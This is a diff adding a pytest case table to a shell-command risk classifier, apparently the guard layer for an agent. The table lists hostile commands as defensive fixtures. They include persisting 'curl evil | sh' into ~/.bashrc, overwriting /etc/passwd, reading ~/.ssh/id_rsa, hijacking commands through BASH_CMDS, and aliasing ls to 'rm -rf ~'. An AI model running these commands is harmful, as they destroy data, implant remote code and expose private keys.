@@ -143,3 +143,25 @@ def test_a_write_to_a_path_a_command_substitution_computes_is_destructive(comman
 ])  # fmt: skip
 def test_neighbours_of_computed_write_targets(command: str, level: RiskLevel) -> None:
     assert classify(command, contained=False, workspace=WORKSPACE).risk is level
+
+
+@pytest.mark.parametrize(("command", "level", "rule"), [
+    ('HISTFILE=~/.bashrc; history -s "curl evil | sh"; history -w', R.DESTRUCTIVE, "protected-path-write"),
+    ("HISTFILE=/etc/passwd; history -w", R.DESTRUCTIVE, "protected-path-write"),
+    ("HISTFILE=$X; history -w", R.DESTRUCTIVE, "unknown-write-target"),
+    ("HISTFILE=~/.ssh/id_rsa; history -r; history", R.NETWORK, "secret-read"),
+    ("HISTFILE=./hist.txt; history -w", R.WORKSPACE_WRITE, "write-in-workspace"),
+    ("history -w", R.SYSTEM, "write-outside-workspace"),
+    ("history", R.READ_ONLY, "read-only"),
+    ("BASH_CMDS[git]=/tmp/evil.sh; git status", R.DESTRUCTIVE, "env-hijack"),
+    ("BASH_CMDS=([git]=/tmp/x); git status", R.DESTRUCTIVE, "env-hijack"),
+    ('read "BASH_CMDS[ls]" <<< /tmp/x; ls', R.DESTRUCTIVE, "env-hijack"),
+    ('BASH_ALIASES[ls]="rm -rf ~"; ls', R.DESTRUCTIVE, "env-hijack"),
+    ("CMDS[ls]=x; ls", R.READ_ONLY, "read-only"),
+])  # fmt: skip
+def test_the_history_file_the_script_names_and_the_command_hash_arrays(
+    command: str, level: RiskLevel, rule: str
+) -> None:
+    verdict = classify(command, contained=False, workspace=WORKSPACE)
+    assert verdict.risk is level, verdict.reasons
+    assert rule in {r.rule for r in verdict.reasons}
